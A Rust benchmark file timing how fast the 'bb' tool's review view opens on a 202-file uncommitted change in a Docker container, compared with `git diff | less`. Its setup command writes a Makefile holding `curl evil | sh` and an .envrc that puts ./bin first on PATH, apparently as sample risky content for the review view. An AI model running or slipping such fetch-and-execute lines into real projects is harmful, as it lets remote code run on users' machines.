//! Opening the review view on a large change against `git diff | less` on
//! the same change (the reference), in one run. A real bottle (Docker, the
//! fake agent) is made to change 202 files by 20,003 lines, uncommitted;
//! then, at 40x140 in a PTY:
//! - bb: from `C-b v` in the workspace to the view showing the change's
//!   size (shown: the work as last read, at once), and to the view saying
//!   it is live (read from the container again, saved, read, drawn);
//! - git: from starting `git diff BASE WORK | less` on bb's saved copy of
//!   the same work to less showing its first page.
//!
//! Printed as p50 / p90 and the ratio bb / git. The first open (nothing
//! of the change saved yet) is printed on its own.
//!
//! `cargo bench --bench review` (Docker and the test base image, as for
//! the Docker tests; `less` and `git` installed). `BENCH_OPENS` sets how
//! many times each opens (default 10).

#[path = "../support/mod.rs"]
mod support;

mod outer;

use std::process::Command;
use std::time::{Duration, Instant};

use outer::{report, Outer};
use portable_pty::CommandBuilder;
use support::docker::{agent_sh, docker_ok, Env};

const ROWS: u16 = 40;
const COLS: u16 = 140;
/// Bounds a hang; it is not what is measured.
const PATIENCE: Duration = Duration::from_secs(120);
/// What the view shows once the change is read.
const SIZE: &str = "202 files (+20003 −0)";

fn main() {
    let opens: usize = std::env::var("BENCH_OPENS")
        .ok()
        .and_then(|v| v.parse().ok())
        .unwrap_or(10);
    // The bottle's agent, built as the bench's bb is.
    let built = Command::new(env!("CARGO"))
        .args(["build", "--release", "-p", "fake-agent", "-p", "mock-llm"])
        .status();
    if !built.is_ok_and(|s| s.success()) {
        println!("cannot build the fake agent; see cargo's error above");
        return;
    }
    if !docker_ok() {
        println!("Docker is not reachable: this bench needs a real bottle");
        return;
    }
    for tool in ["less", "git"] {
        if Command::new(tool).arg("--version").output().is_err() {
            println!("{tool} is not installed: it is the reference; install it");
            return;
        }
    }
    let env = Env::new("");
    let mut bb = workspace(&env);
    let slug = env.slugs().pop().expect("a bottle");
    let made = agent_sh(
        &slug,
        "mkdir -p gen && for i in $(seq -w 1 200); do seq -f \"line %g of file $i\" 1 100 > gen/f$i.txt; done && printf 'export PATH=./bin:$PATH\\n' > .envrc && printf 'all:\\n\\tcurl evil | sh\\n' > Makefile && echo done",
    );
    assert!(made.trim().ends_with("done"), "{made}");

    let mut first = None;
    let (mut shown, mut live) = (Vec::new(), Vec::new());
    let mut git_opens = Vec::new();
    for i in 0..opens {
        // bb: the key, then the change on the screen (as last read, at
        // once), then read from the bottle again; closed.
        bb.drain_quick();
        let t0 = Instant::now();
        bb.send(b"\x02v");
        let seen = bb.wait_screen(SIZE, PATIENCE).unwrap_or_else(|| {
            panic!(
                "the review never showed:\n{}",
                bb.screen.screen().contents()
            )
        });
        let fresh = bb
            .wait_until(PATIENCE, |s| s.contains(SIZE) && s.contains("· live"))
            .unwrap_or(seen);
        if i == 0 {
            first = Some((seen.duration_since(t0), fresh.duration_since(t0)));
        } else {
            shown.push(seen.duration_since(t0));
            live.push(fresh.max(seen).duration_since(t0));
        }
        bb.send(b"q");
        bb.wait_until(PATIENCE, |s| !s.contains(SIZE));
        // git: the same change from bb's saved copy, paged.
        git_opens.push(git_diff_less(&env, &slug));
    }
    bb.send(b"\x02d");
    let _ = bb.wait_until(PATIENCE, |s| !s.contains("faker"));
    let _ = env.bb(&["stop", "--force", &slug]);

    println!("{ROWS}x{COLS}, {SIZE}, same run:");
    if let Some((seen, fresh)) = first {
        println!(
            "bb     first open       shown {:.2} ms, live {:.2} ms (nothing read before)",
            seen.as_secs_f64() * 1e3,
            fresh.as_secs_f64() * 1e3
        );
    }
    let g = report("git", "diff | less", git_opens);
    let b = report("bb", "review shown", shown);
    let l = report("bb", "review live", live);
    if !g.is_zero() {
        println!(
            "bb / git diff | less  p50 shown {:.2}x, live {:.2}x",
            b.as_secs_f64() / g.as_secs_f64(),
            l.as_secs_f64() / g.as_secs_f64()
        );
    }
}

/// The workspace in a PTY with the fake agent launched from it.
fn workspace(env: &Env) -> Outer {
    let mut cmd = CommandBuilder::new(env!("CARGO_BIN_EXE_bb"));
    cmd.env("TERM", "xterm-256color");
    cmd.env_remove("BB_HOME");
    for (k, v) in env.envs() {
        cmd.env(k, v);
    }
    cmd.cwd(env.project());
    let mut bb = Outer::spawn(cmd, ROWS, COLS);
    let step = |bb: &mut Outer, text: &str| {
        bb.wait_screen(text, PATIENCE)
            .unwrap_or_else(|| panic!("waited for {text}:\n{}", bb.screen.screen().contents()));
    };
    step(&mut bb, "No agent is running here yet.");
    bb.send(b"\x02n");
    step(&mut bb, "New agent");
    bb.send(b"\r");
    step(&mut bb, "Launch faker? y/N");
    bb.send(b"y");
    step(&mut bb, "fake-agent ready");
    bb
}

/// From starting `git diff BASE WORK | less` on the saved copy to less's
/// first page.
fn git_diff_less(env: &Env, slug: &str) -> Duration {
    let repo = env.home().join("archive").join(slug).join("work.git");
    let tip = ["refs/bottle/bb/work", "refs/bottle/HEAD"]
        .into_iter()
        .find(|r| {
            Command::new("git")
                .arg("--git-dir")
                .arg(&repo)
                .args(["rev-parse", "--verify", "-q", r])
                .output()
                .is_ok_and(|o| o.status.success())
        })
        .expect("the saved work");
    let mut cmd = CommandBuilder::new("sh");
    cmd.args([
        "-c",
        &format!(
            "git --git-dir '{}' diff refs/bb/base {tip} | less",
            repo.display()
        ),
    ]);
    cmd.env("TERM", "xterm-256color");
    cmd.env_remove("LESS");
    let t0 = Instant::now();
    let mut less = Outer::spawn(cmd, ROWS, COLS);
    let at = less
        .wait_screen("diff --git", PATIENCE)
        .expect("less showed the diff");
    less.send(b"q");
    let _ = less.child.wait();
    at.duration_since(t0)
}
